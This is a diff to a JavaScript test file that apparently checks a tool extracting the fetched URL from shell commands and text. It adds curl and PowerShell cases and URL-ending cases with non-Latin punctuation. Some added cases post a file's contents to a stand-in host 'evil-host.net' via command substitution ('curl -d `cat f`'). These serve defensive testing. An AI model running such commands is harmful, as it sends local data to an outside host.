@@ -234,6 +234,11 @@ cases('what a program is given that fetches', [
   ['curl --output a.zip -H "X: y.com" evil-host.net/x', 'http://evil-host.net/x'],
   ['curl --silent --location "evil-host.net/x?y=1"', 'http://evil-host.net/x?y=1'],
   ["curl 'evil-host.net/x'", 'http://evil-host.net/x'],
+  ['curl -d `cat f` evil-host.net/x', 'http://evil-host.net/x'],
+  ['curl -d "`cat f`" evil-host.net/x', 'http://evil-host.net/x'],
+  ['curl -H A:\\ b evil-host.net/x', 'http://evil-host.net/x'],
+  ['iwr -Headers @{ "A" = "b" } -Uri evil-host.net/x', 'http://evil-host.net/x'],
+  ['Use `curl evil-host.net` or `curl evil.net`', 'http://evil-host.net/', 'http://evil.net/'],
   ['curl --url evil-host.net/x', 'http://evil-host.net/x'],
   ['curl me:pw@evil-host.net:8080/x', 'http://evil-host.net:8080/x'],
   // A user name as long as curl takes it
@@ -513,6 +518,17 @@ cases('what a program is given, in the forms that people write it', [
 ]);
 
 cases('where a URL ends', [
+  ['https://evil-host.net/x،', 'https://evil-host.net/x'],
+  ['https://evil-host.net/x؛', 'https://evil-host.net/x'],
+  ['https://evil-host.net/x؟!', 'https://evil-host.net/x'],
+  ['https://evil-host.net/x!؟', 'https://evil-host.net/x'],
+  ['https://evil-host.net/x।', 'https://evil-host.net/x'],
+  ['https://evil-host.net/x។', 'https://evil-host.net/x'],
+  ['https://evil-host.net/x။', 'https://evil-host.net/x'],
+  ['https://evil-host.net/x።', 'https://evil-host.net/x'],
+  ['(https://evil-host.net/x؟)', 'https://evil-host.net/x'],
+  ['https://evil-host.net؟', 'https://evil-host.net/'],
+  ['https://evil-host.net/x،y', 'https://evil-host.net/x%D8%8Cy'],
   ['https://evil-host.net/x[text]', 'https://evil-host.net/x'],
   ['https://evil-host.net/x[text,window=_blank]', 'https://evil-host.net/x'],
   ['https://evil-host.net/x?a[]=1&b[0]=2', 'https://evil-host.net/x?a[]=1&b[0]=2'],
